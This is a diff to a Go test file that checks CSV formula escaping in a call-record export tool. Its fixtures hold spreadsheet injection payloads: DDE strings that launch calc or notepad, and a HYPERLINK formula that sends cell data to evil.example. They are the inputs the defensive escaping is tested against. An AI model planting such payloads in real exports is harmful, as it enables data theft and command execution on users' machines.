@@ -1,7 +1,10 @@
 package main
 
 import (
+	"encoding/csv"
+	"encoding/json"
 	"fmt"
+	"io"
 	"os"
 	"path/filepath"
 	"strings"
@@ -68,6 +71,7 @@ func TestExportErrors(t *testing.T) {
 		{"long number", []string{"--config", cfg, "--phone", strings.Repeat("1", 33)}, "export: phone: a value is longer than 32 characters"},
 		{"long list", []string{"--config", cfg, "--tag", strings.Join(tags101, ",")}, "export: tag: at most 100 distinct values"},
 		{"bad format", []string{"--config", cfg, "--format", "xml"}, "export: --format xml: want ndjson or csv"},
+		{"bad csv-formulas", []string{"--config", cfg, "--format", "csv", "--csv-formulas", "strip"}, "export: --csv-formulas strip: want escape or keep"},
 		{"argument", []string{"--config", cfg, "voice"}, `export: unexpected argument "voice"`},
 		{"config and server", []string{"--config", cfg, "--server", "http://127.0.0.1:1", "--token", "t"}, "--config is for the local database"},
 		{"server down", []string{"--server", "http://127.0.0.1:1", "--token", "t", "--output", out}, "connection refused"},
@@ -112,5 +116,179 @@ func TestExportFlagsMirrorTheAPI(t *testing.T) {
 		if n := len(exportedNDJSON(t, out)); err != nil || n != tt.want {
 			t.Errorf("%q: %d records, %v, want %d\n%s", tt.args, n, err, tt.want, stderr)
 		}
+	}
+}
+
+func TestEscapeFormula(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"", ""},
+		{"plain", "plain"},
+		{"Zhang Min", "Zhang Min"},
+		{"a=b", "a=b"},
+		{" =1+1", " =1+1"},
+		{"'=1", "'=1"},
+		{"=1+1", "'=1+1"},
+		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
+		{`=HYPERLINK("http://evil.example/?d="&A1,"x")`, `'=HYPERLINK("http://evil.example/?d="&A1,"x")`},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"\n=1", "\n=1"},
+		{"=", "'="},
+		{"@", "'@"},
+		// + and - pass when number-like: ^[+-][0-9][0-9 ().*-]*$
+		{"+86 139 1234 5678", "+86 139 1234 5678"},
+		{"+8613912345678", "+8613912345678"},
+		{"+86 (20) 6666-8888", "+86 (20) 6666-8888"},
+		{"+86139****5678", "+86139****5678"},
+		{"-1", "-1"},
+		{"-1.5", "-1.5"},
+		{"+0", "+0"},
+		{"+", "'+"},
+		{"-", "'-"},
+		{"--", "'--"},
+		{"+ 86 139", "'+ 86 139"},
+		{"+(86) 139", "'+(86) 139"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"+SUM(1,2)", "'+SUM(1,2)"},
+		{"-1+1", "'-1+1"},
+		{"+1/2", "'+1/2"},
+		{"+86 139 1234 5678,A1", "'+86 139 1234 5678,A1"},
+		{"-A1", "'-A1"},
+		{"+1e5", "'+1e5"},
+		{"+1\t", "'+1\t"},
+		{"1+1", "1+1"},
+		{"4008208820", "4008208820"},
+	}
+	for _, tt := range tests {
+		if got := escapeFormula(tt.in); got != tt.want {
+			t.Errorf("escapeFormula(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+// Ordinary cells pass without an allocation: the guard costs a CSV export
+// a byte comparison per cell.
+func TestEscapeFormulaAllocs(t *testing.T) {
+	cells := []string{"rec_abcdefghijklmnopqrstuvwx", "+86 139 1234 5678", "-1", "2023-11-14T22:13:20.123Z", "Zhang Min;Bot", ""}
+	if n := testing.AllocsPerRun(100, func() {
+		for _, c := range cells {
+			escapeFormula(c)
+		}
+	}); n != 0 {
+		t.Errorf("%v allocations per row of ordinary cells", n)
+	}
+}
+
+func BenchmarkCSVWrite(b *testing.B) {
+	for _, escape := range []bool{false, true} {
+		b.Run(fmt.Sprintf("escape=%v", escape), func(b *testing.B) {
+			recs := make([]exportRecord, 1000)
+			for i := range recs {
+				recs[i].raw = json.RawMessage(testRecord("b", i))
+			}
+			w := newRecordWriter(io.Discard, "csv", escape)
+			b.ReportAllocs()
+			for i := 0; b.Loop(); i++ {
+				if err := w.write(recs[i%len(recs)]); err != nil {
+					b.Fatal(err)
+				}
+			}
+		})
+	}
+}
+
+// formulaRecord holds formulas in every text column a user can fill.
+const formulaRecord = `{"channel":"voice","source":"native","source_id":"=1+1","start_at":1700000000000,` +
+	`"caller":{"address":"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")"},"callee":{"address":"+86 139 1234 5678"},` +
+	`"agents":[{"id":"@SUM(1+1)*cmd|' /C calc'!A0","name":"-2+3+cmd|' /C calc'!A0"},{"id":"a2","name":"Li Wei"}],` +
+	`"queues":[{"id":"-1","name":"\t=1"}],"disposition_raw":"+SUM(1)","country_code":"=1",` +
+	`"satisfaction":{"score":3,"label":"\r=1"},"tags":["=cmd|' /C notepad'!A1","vip"],"note":"=cmd|' /C calc'!A0"}`
+
+// formulaCells are the escaped cells of formulaRecord's row; with
+// --csv-formulas keep the same cells without the leading '.
+var formulaCells = map[string]string{
+	"source_id":          "'=1+1",
+	"caller":             `'=HYPERLINK("http://evil.example/?d="&A1,"x")`,
+	"callee":             "+86 139 1234 5678",
+	"agent_ids":          "'@SUM(1+1)*cmd|' /C calc'!A0;a2",
+	"agent_names":        "'-2+3+cmd|' /C calc'!A0;Li Wei",
+	"queue_ids":          "-1",
+	"queue_names":        "'\t=1",
+	"disposition_raw":    "'+SUM(1)",
+	"satisfaction_label": "'\r=1",
+	"tags":               "'=cmd|' /C notepad'!A1;vip",
+	"country_code":       "'=1",
+	"note":               "'=cmd|' /C calc'!A0",
+}
+
+// checkFormulaCSV parses a CSV export of formulaRecord.
+func checkFormulaCSV(t *testing.T, what, out string, escaped bool) {
+	t.Helper()
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%s: %d rows, %v\n%s", what, len(rows), err, out)
+	}
+	if diff := cmp.Diff(csvHeader, rows[0]); diff != "" {
+		t.Errorf("%s: header (-want +got):\n%s", what, diff)
+	}
+	for i, col := range csvHeader {
+		want, ok := formulaCells[col]
+		if !ok {
+			continue
+		}
+		if !escaped && strings.HasPrefix(want, "'") {
+			want = want[1:]
+		}
+		if got := rows[1][i]; got != want {
+			t.Errorf("%s: %s = %q, want %q", what, col, got, want)
+		}
+	}
+}
+
+// A record with formulas in its text exports with them escaped, locally and
+// through a server alike, unless --csv-formulas keep.
+func TestExportCSVFormulas(t *testing.T) {
+	dir := t.TempDir()
+	cfg := writeConfig(t, dir)
+	in := filepath.Join(dir, "f.ndjson")
+	if err := os.WriteFile(in, []byte(formulaRecord+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if _, stderr, err := runCLI(t, nil, "import", "--config", cfg, in); err != nil {
+		t.Fatalf("import: %v\n%s", err, stderr)
+	}
+	local, stderr, err := runCLI(t, nil, "export", "--config", cfg, "--format", "csv")
+	if err != nil {
+		t.Fatalf("export: %v\n%s", err, stderr)
+	}
+	checkFormulaCSV(t, "local", local, true)
+	kept, stderr, err := runCLI(t, nil, "export", "--config", cfg, "--format", "csv", "--csv-formulas", "keep")
+	if err != nil {
+		t.Fatalf("export: %v\n%s", err, stderr)
+	}
+	checkFormulaCSV(t, "local, keep", kept, false)
+	file := filepath.Join(dir, "out.csv")
+	if _, stderr, err := runCLI(t, nil, "export", "--config", cfg, "--format", "csv", "--csv-formulas=escape", "--output", file); err != nil {
+		t.Fatalf("export: %v\n%s", err, stderr)
+	}
+	if b, _ := os.ReadFile(file); string(b) != local {
+		t.Errorf("--output %s:\n%s\nwant\n%s", file, b, local)
+	}
+	// NDJSON is data, not a spreadsheet: unchanged.
+	nd, _, err := runCLI(t, nil, "export", "--config", cfg)
+	if recs := exportedNDJSON(t, nd); err != nil || len(recs) != 1 || recs[0].Note != "=cmd|' /C calc'!A0" {
+		t.Errorf("ndjson export: %v\n%s", err, nd)
+	}
+
+	p := start(t, "--config", cfg)
+	env := map[string]string{"CDRHUB_TOKEN": testToken}
+	remote, stderr, err := runCLI(t, env, "export", "--server", "http://"+p.addr, "--format", "csv")
+	if err != nil || remote != local {
+		t.Errorf("remote export: %v\n%s\nwant the local one\n%s\n%s", err, remote, local, stderr)
+	}
+	remote, stderr, err = runCLI(t, env, "export", "--server", "http://"+p.addr, "--format", "csv", "--csv-formulas", "keep")
+	if err != nil || remote != kept {
+		t.Errorf("remote export, keep: %v\n%s\nwant the local one\n%s\n%s", err, remote, kept, stderr)
 	}
 }
